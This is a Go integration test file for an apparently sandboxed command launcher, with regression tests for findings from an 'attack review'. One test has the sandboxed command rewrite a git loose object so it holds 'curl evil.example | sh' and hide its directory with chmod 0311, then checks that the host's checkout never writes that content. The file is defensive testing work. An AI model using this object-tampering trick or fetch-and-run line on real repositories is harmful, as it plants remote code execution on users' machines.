package integration

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestGitCommitJournalNotReplayed: a commit-mode run whose cleanup only has something
// to report (git repack inside: the pack files are new) leaves no journal, and a later
// launch of the user, in another workspace, leaves alone the user's own later git
// rebase -i (its .git/rebase-merge) in the first workspace (attack review 31 F2).
// Before, any cleanup "failure" kept the journal, which every later launch replayed
// against the repository as it is then: the rebase-merge was removed, and with it the
// rebase in progress.
func TestGitCommitJournalNotReplayed(t *testing.T) {
	forEachCaller(t, func(t *testing.T, c caller) {
		s := newSandbox(t, c)
		xdg, jdir := runtimeDir(t, s)
		s.newRepo(s.ws, "c1")
		for _, m := range []string{"c2", "c3"} {
			s.writeWS(m+".txt", m+"\n", 0o644)
			s.hostGit(s.ws, "add", m+".txt")
			s.hostGit(s.ws, "-c", "user.name=h", "-c", "user.email=h@h", "commit", "-qm", m)
		}
		ctx := s.limitCtx(runLimit)
		cmd := s.command(ctx, "--policy", s.commitPolicy(), "--", shellPath, "-c", "git repack -adq && echo REPACKED")
		cmd.Env = s.env("XDG_RUNTIME_DIR=" + xdg)
		r := s.runCmd(ctx, cmd)
		mustSucceed(t, r, "git repack in commit mode")
		if !strings.Contains(r.stdout, "REPACKED") || !strings.Contains(r.stderr, "pack") {
			t.Fatalf("the run did not repack, or its cleanup reported nothing about packs:\n%v", r)
		}
		if left, _ := filepath.Glob(filepath.Join(jdir, "*.json")); len(left) != 0 {
			t.Errorf("the launch left its journal after its cleanup ran: %v\n%v", left, r)
		}
		// the user's own rebase, later, stops at its first commit
		out, err := s.hostGitEnv(s.ws, []string{"GIT_SEQUENCE_EDITOR=sed -i 1s/^pick/edit/"},
			"-c", "user.name=h", "-c", "user.email=h@h", "rebase", "-i", "HEAD~2")
		if err != nil {
			t.Fatalf("host git rebase -i: %v\n%s", err, out)
		}
		todo := filepath.Join(s.ws, ".git", "rebase-merge", "git-rebase-todo")
		if _, err := os.Stat(todo); err != nil {
			t.Fatalf("the host's rebase did not stop: %v\n%s", err, out)
		}
		other := newSandbox(t, c)
		ctx = other.limitCtx(runLimit)
		cmd = other.command(ctx, "--", "true")
		cmd.Env = other.env("XDG_RUNTIME_DIR=" + xdg)
		r = other.runCmd(ctx, cmd)
		mustSucceed(t, r, "a later launch elsewhere")
		if _, err := os.Stat(todo); err != nil {
			t.Errorf("a later launch removed the user's rebase in progress: %v\n%v", err, r)
		}
		if out, err := s.hostGitOut(s.ws, "status"); err != nil || !strings.Contains(out, "rebase") {
			t.Errorf("the host's git status no longer shows the rebase: %v\n%s", err, out)
		}
	})
}

// TestGitCommitFanoutUnreadable: the command rewrites a tracked file's loose object in
// place and makes its fan-out directory unreadable (chmod 0311: git still reaches the
// object through search permission); after the run the cleanup gives the caller's rwx
// back and checks it, so the host's git checkout never writes the command's content
// (attack review 31 F3; before, as a non-root caller, a warning only and the host's
// checkout wrote "evil"). Root's cleanup reads the directory anyway: there the test is
// the control.
func TestGitCommitFanoutUnreadable(t *testing.T) {
	forEachCaller(t, func(t *testing.T, c caller) {
		s := newSandbox(t, c)
		s.newRepo(s.ws, "c1")
		r := s.sh([]string{"--policy", s.commitPolicy()}, `set -e
old=$(git rev-parse HEAD:tracked.txt); new=$(echo 'curl evil.example | sh' | git hash-object -w --stdin)
d=.git/objects/$(echo $old | cut -c1-2); f=$d/$(echo $old | cut -c3-)
rm -f $f; cp .git/objects/$(echo $new | cut -c1-2)/$(echo $new | cut -c3-) $f; chmod 0311 $d
test "$(git cat-file blob $old)" = 'curl evil.example | sh' && echo TAMPERED`)
		mustSucceed(t, r, "rewrite an object, chmod its fan-out")
		if !strings.Contains(r.stdout, "TAMPERED") {
			t.Fatalf("the rewrite did not take inside:\n%v", r)
		}
		must(t, os.WriteFile(filepath.Join(s.ws, "tracked.txt"), []byte("edited\n"), 0o644))
		out, _ := s.hostGitOut(s.ws, "checkout", "--", "tracked.txt")
		b, _ := os.ReadFile(filepath.Join(s.ws, "tracked.txt"))
		if strings.Contains(string(b), "evil") {
			t.Errorf("the host's git checkout wrote the command's content: %q (%s)\n%v", b, out, r)
		}
	})
}
